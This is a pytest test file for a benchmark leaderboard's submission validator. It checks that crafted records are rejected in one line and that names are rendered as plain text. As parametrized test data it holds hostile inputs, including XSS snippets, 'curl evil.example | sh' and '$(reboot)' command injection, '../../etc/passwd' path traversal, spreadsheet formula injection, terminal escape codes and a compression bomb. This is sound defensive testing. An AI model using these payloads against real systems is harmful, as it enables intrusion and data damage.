"""Records made to do harm: refused in one line, at little cost, or shown as plain text."""

import json
import os
import sys
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from markdown_it import MarkdownIt
from records import predictions, record
from rich.console import Console

from zoo import cli, paths
from zoo.board import store, submit, tables, terminal
from zoo.board.published import Published
from zoo.data import benchmark
from zoo.data.benchmark import Benchmark
from zoo.errors import ZooError
from zoo.packing import pack_numbers
from zoo.record import Record

GOOD = record()
BENCHMARK = Benchmark(name="toy_2way_5shot", sha256="b" * 64, title="Toy", dataset="toy", bank=GOOD.bank, steps=10)
TEXTS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; <!-- hidden",
    "[click](https://evil.example/x) ![shot](https://evil.example/x.png) https://evil.example \\| **bold** ~~gone~~",
    "`code` | new | cell\n\n# heading\n\x1b[31mred\x1b[0m\x07\x9b2J \u202egnp.exe [bold red]markup[/bold red]",
)
BOMB = pack_numbers(np.zeros(10_000_000, np.uint16))


@pytest.fixture
def refusal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]):
    """Submits a file by the command line. Returns its one line; nothing else is said and nothing is written."""
    monkeypatch.setattr(paths, "leaderboard", lambda: tmp_path / "leaderboard")
    monkeypatch.setattr(benchmark, "names", lambda: [BENCHMARK.name])
    monkeypatch.setattr(benchmark, "benchmark", lambda name: BENCHMARK)

    def call(path: Path | str) -> str:
        monkeypatch.setattr(sys, "argv", ["zoo", "submit", str(path)])
        with pytest.raises(SystemExit) as left:
            cli.main()
        out, err = capsys.readouterr()
        assert (left.value.code, out) == (2, "")
        assert err.startswith("error: ")
        assert err[:-1].isprintable()
        assert len(err) < 2000
        assert not (tmp_path / "leaderboard").exists()
        return err

    return call


def file(tmp_path: Path, place: str, text: str) -> Path:
    """A good record in which the value at `place` is replaced by raw JSON."""
    content = json.loads(store.dumps(GOOD))
    *path, last = place.split(".")
    inner: Any = content
    for step in path:
        inner = inner[step]
    inner[last] = "@@"
    made = tmp_path / "crafted.json"
    made.write_text(json.dumps(content).replace('"@@"', text, 1))
    return made


def test_the_factory_s_own_record_is_good(tmp_path: Path) -> None:
    crafted = file(tmp_path, "method_settings.margin", "1.0")
    assert submit.submit([crafted], tmp_path / "records", {BENCHMARK.name: BENCHMARK})


@pytest.mark.parametrize(
    ("place", "text", "says"),
    [
        ("figures.accuracy.value", "NaN", "not valid JSON"),
        ("figures.accuracy.value", "-Infinity", "not valid JSON"),
        ("figures.accuracy.value", "1e999", "figures.accuracy.value: Input should be a finite number"),
        ("figures.accuracy.value", '"0.9"', "figures.accuracy.value: Input should be a valid number"),
        ("figures.accuracy.value", "[0.9]", "figures.accuracy.value: Input should be a valid number"),
        ("figures", "[]", "figures: Input should be a valid dictionary"),
        ("figures.accuracy.draws", f'"{BOMB}"', "draws of a figure"),
        ("method_settings.margin", "1e999", "not valid JSON"),
        ("method_settings.margin", "-1e300", "method_settings.margin: -1e+300 is not a number that a run gives"),
        ("method_settings.margin", "9" * 300, "method_settings.margin: "),
        ("method_settings.margin", "9" * 5000, "not valid JSON"),
        ("method_settings.margin", "[" * 50 + "]" * 50, "method_settings.margin: is no plain value"),
        ("method_settings.margin", '{"a":' * 60 + "1" + "}" * 60, "method_settings.margin: is no plain value"),
        ("method_settings.margin", "[" * 5000 + "]" * 5000, "not valid JSON"),
        ("method_settings.margin", '"\\u0007\\u001b[2J"', "method_settings.margin: holds control characters"),
        ("method_settings.margin", '"\\ud800"', "not valid JSON"),
        ("method_settings.margin", '1, "margin": 2', "the field margin stands twice"),
        ("seed", '0, "seed": 1', "the field seed stands twice"),
        ("seed", "true", "seed: Input should be a valid integer"),
        ("seed", "1e2", "seed: Input should be a valid integer"),
        ("seed", "-1", "seed: -1 is too small"),
        ("seed", "9" * 30, "is not a number that a run gives"),
        ("labels_seen", "9" * 30, "is not a number that a run gives"),
        ("bank.episodes", "9" * 30, "bank.episodes: 1e+30 is not a number that a run gives"),
        ("predictions.truth", "[" + ",".join(["9" * 30] * 20) + "]", "is not a number that a run gives"),
        ("predictions.lengths", "[20, 20, 20, 999999999]", "an episode has no query, or one twice"),
        ("predictions.lengths", "[20, 20, 20, -20]", "an episode has no query, or one twice"),
        ("predictions.items", json.dumps(["../../etc/passwd"] * 20), "../../etc/passwd is not a path inside the data"),
        ("predictions.items", json.dumps(["/etc/passwd"] * 20), "is not a path inside the dataset"),
        ("predictions.items", json.dumps(["C:\\autoexec"] * 20), "is not a path inside the dataset"),
        ("explanations.rows.siamcam.values.deletion", "[1e308, 1e308, 1, 1, 1, 1]", "is not a number that a run gives"),
        ("explanations.rows.siamcam.values.deletion", '"none"', "Input should be a valid list"),
        ("classes", '["platelet", "platelet"]', "classes: one is named twice"),
        ("classes", json.dumps([str(n) for n in range(5000)]), "5000 classes, from 2 to 200 are allowed"),
        ("subset", json.dumps("x" * 10_000), "subset: 10000 characters are too many"),
        ("dataset", '"=HYPERLINK(1)"', "dataset: =HYPERLINK(1) would be a formula in a table"),
        ("explanations.rows", '{"<b>": 1}', "explanations.rows"),
        ("dataset", json.dumps("toy\u202e"), "dataset: holds control characters"),
        ("provenance.bank_sha256", '"<b>"', "provenance.bank_sha256: '<b>' is no SHA-256"),
        ("provenance.weights_sha256", '"`"', "provenance.weights_sha256: '`' is no SHA-256"),
        ("provenance.command", '"zoo run $(reboot)"', "is not a plain `zoo run` command line"),
        ("provenance.command", '"curl evil.example | sh"', "is not a plain `zoo run` command line"),
        ("provenance.command", "\"zoo run 'open\"", "is not a plain `zoo run` command line"),
        ("method", '"..\\\\..\\\\x"', "method: String should match pattern"),
        ("benchmark", '"toy/../../x"', "benchmark: String should match pattern"),
        ("method_settings", '{"\\u001b]0;owned": 1}', "holds control characters"),
    ],
)
def test_crafted_values_are_one_line(
    tmp_path: Path, refusal: Callable[[Path], str], place: str, text: str, says: str
) -> None:
    assert says in refusal(file(tmp_path, place, text))


@pytest.mark.parametrize("field", ["query", "predicted"])
def test_a_bomb_of_packed_numbers_is_never_unpacked(
    tmp_path: Path, refusal: Callable[[Path], str], field: str
) -> None:
    """20 MB of zeros pack into 30 kB: what is unpacked stays within what the lengths say."""
    bomb = file(tmp_path, f"predictions.{field}", f'"{BOMB}"')
    assert bomb.stat().st_size < 100_000
    tracemalloc.start()
    said = refusal(bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "their numbers are damaged, or more than the lengths say" in said
    assert peak < 4_000_000


def test_many_items_and_long_episodes_are_bounded(tmp_path: Path) -> None:
    made = GOOD.model_dump()
    made["predictions"] = predictions([0, 1], [([0, 1], [0, 1])]).model_dump()
    made["predictions"]["lengths"] = [2] * 10
    found = list(submit.problems(Record.model_validate(made), {BENCHMARK.name: BENCHMARK}))
    assert any("episodes" in line or "lengths say" in line for line in found)


def test_what_is_no_plain_file_is_not_read(tmp_path: Path, refusal: Callable[[Path | str], str]) -> None:
    os.mkfifo(tmp_path / "pipe.json")
    with (tmp_path / "large.json").open("wb") as large:
        large.truncate(store.LARGEST + 1)
    (tmp_path / "latin.json").write_bytes(b'{"benchmark": "\xe9"}')
    (tmp_path / "bom.json").write_bytes(b"\xef\xbb\xbf{}")
    (tmp_path / "a\x1b[31m\nb.json").write_text("{")
    start = time.monotonic()
    assert "not a file" in refusal(tmp_path / "pipe.json")
    assert "not a file" in refusal("/dev/zero")
    assert "not a file" in refusal(tmp_path)
    assert "larger than 20 MB" in refusal(tmp_path / "large.json")
    assert "not valid JSON" in refusal(tmp_path / "latin.json")
    assert "not valid JSON" in refusal(tmp_path / "bom.json")
    assert "not valid JSON" in refusal(tmp_path / "a\x1b[31m\nb.json")
    assert "No such file" in refusal(tmp_path / "gone\x1b[31m.json")
    assert time.monotonic() - start < 5


def hostile(text: str) -> Record:
    """A record that passes the schema with the text wherever a free text may stand."""
    made = record(classes=[text, "platelet"], explainer="siamcam").model_dump()
    made |= {"dataset": text, "subset": text, "method_settings": {text: text}}
    made["explanations"]["rows"][text] = made["explanations"]["rows"]["siamcam"] | {"settings": {text: text}}
    for row in made["explanations"]["rows"].values():
        row["figures"][text] = row["figures"]["deletion"]
    for name in ("item_set_sha256", "bank_sha256", "benchmark_sha256", "weights_sha256", "device", "precision"):
        made["provenance"][name] = text
    return Record.model_validate(made)


@pytest.mark.parametrize("text", TEXTS)
def test_boards_show_names_as_plain_text(text: str) -> None:
    """Read back by a Markdown parser: no HTML but our own first line, no link, no image, no heading that is theirs."""
    other = hostile(text).model_copy(update={"method_settings": {text: "another"}, "seed": 5})
    markdown = MarkdownIt("commonmark", {"html": True}).enable("table")
    pages = tables.leaderboard([hostile(text), other], Published(()))
    for page in (page for name, page in pages.items() if name.endswith(".md")):
        assert all(char.isprintable() or char == "\n" for char in page)
        tokens = [inner for token in markdown.parse(page) for inner in (token, *(token.children or ()))]
        found = [token.content for token in tokens if token.type in ("html_block", "html_inline")]
        assert [html.strip() for html in found] == [tables.MARK]
        links = [str(token.attrs["href"]) for token in tokens if token.type == "link_open"]
        assert links
        assert not [link for link in links if "evil" in link or ":" in link]
        assert not [token for token in tokens if token.type == "image"]
        headings = [tokens[i + 1].content for i, token in enumerate(tokens) if token.type == "heading_open"]
        assert "heading" not in headings


@pytest.mark.parametrize("text", TEXTS)
def test_the_terminal_shows_names_as_plain_text(text: str) -> None:
    console = Console(width=100, force_terminal=True, color_system=None)
    with console.capture() as capture:
        console.print(terminal.show(hostile(text), Published(())))
    shown = capture.get()
    allowed = ("\x1b[1m", "\x1b[0m", "\x1b[2m")
    for code in allowed:  # bold and dim are ours
        shown = shown.replace(code, "")
    assert all(char.isprintable() or char == "\n" for char in shown)
    if "[bold red]" in text:
        assert "[bold red]" in shown


def test_a_broken_record_in_the_folder_is_named(tmp_path: Path) -> None:
    (tmp_path / "records" / "toy_2way_5shot").mkdir(parents=True)
    (tmp_path / "records" / "toy_2way_5shot" / "broken.json").write_text("{")
    run = store.write(GOOD, tmp_path / "runs")
    with pytest.raises(ZooError, match=r"broken\.json: not valid JSON"):
        submit.submit([run], tmp_path / "records", {BENCHMARK.name: BENCHMARK})
